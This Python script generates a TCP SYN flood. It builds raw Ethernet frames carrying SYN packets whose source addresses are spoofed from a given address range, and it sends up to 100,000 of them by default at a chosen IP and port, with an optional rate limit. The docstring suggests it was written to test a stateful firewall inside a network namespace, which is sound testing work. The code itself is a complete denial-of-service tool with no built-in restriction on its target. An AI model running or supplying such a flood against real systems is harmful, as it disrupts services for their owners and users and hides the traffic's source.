#!/usr/bin/env python3
"""Sends TCP SYNs from spoofed sources, as a SYN flood does, on one interface.

    synflood.py --iface IF --src-mac MAC --dst-mac MAC --sources CIDR --dst IP --port N
                [--count N]

Each SYN comes from another address of CIDR and another source port (a new connection for a
stateful firewall); the frames go out raw (AF_PACKET) in the caller's network namespace.
Prints one JSON line: {"sent": N, "seconds": S}.
"""
import argparse
import ipaddress
import json
import socket
import struct
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def fold(s):
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--src-mac", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--sources", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=100000)
    ap.add_argument("--rate", type=int, default=0,
                    help="frames per second at most (0: as fast as the socket takes them)")
    a = ap.parse_args()
    net = ipaddress.ip_network(a.sources)
    first, size = int(net.network_address), net.num_addresses
    dst = socket.inet_aton(a.dst)
    eth = bytes.fromhex(a.dst_mac.replace(":", "")) + bytes.fromhex(a.src_mac.replace(":", "")) + b"\x08\x00"
    # IPv4 header and TCP SYN with the source address and port left zero: their checksums are
    # finished per packet by adding the variable words to the fixed part's sum.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, b"\0\0\0\0", dst)
    tcp = struct.pack("!HHIIBBHHH", 0, a.port, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    ip_sum = csum(ip)
    pseudo_sum = csum(dst + struct.pack("!BBH", 0, 6, 20)) + csum(tcp)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    frame = bytearray(eth + ip + tcp)
    t0 = time.time()
    sent = 0
    for i in range(a.count):
        src = first + 1 + i % (size - 2)
        sport = 1024 + (i // (size - 2)) % 64000
        hi, lo = src >> 16, src & 0xFFFF
        struct.pack_into("!I", frame, 26, src)
        struct.pack_into("!H", frame, 24, fold(ip_sum + hi + lo))
        struct.pack_into("!H", frame, 34, sport)
        struct.pack_into("!H", frame, 50, fold(pseudo_sum + hi + lo + sport))
        try:
            s.send(frame)
            sent += 1
        except OSError:
            time.sleep(0.001)
        if a.rate and sent % 100 == 0:
            ahead = t0 + sent / a.rate - time.time()
            if ahead > 0:
                time.sleep(ahead)
    print(json.dumps({"sent": sent, "seconds": round(time.time() - t0, 2)}))


if __name__ == "__main__":
    main()
